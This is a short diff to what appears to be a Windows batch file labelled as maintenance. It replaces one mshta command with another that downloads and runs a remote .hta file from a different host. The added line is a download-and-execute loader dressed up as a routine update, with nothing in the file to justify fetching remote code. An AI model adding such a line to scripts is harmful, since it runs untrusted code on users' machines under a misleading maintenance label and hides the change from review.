@@ -1,2 +1,2 @@
-REM maintenance 0664 v2
-mshta http://cdn-update.example/update.hta
+REM maintenance 7595 v2
+mshta http://files.sync-svc.example/update.hta
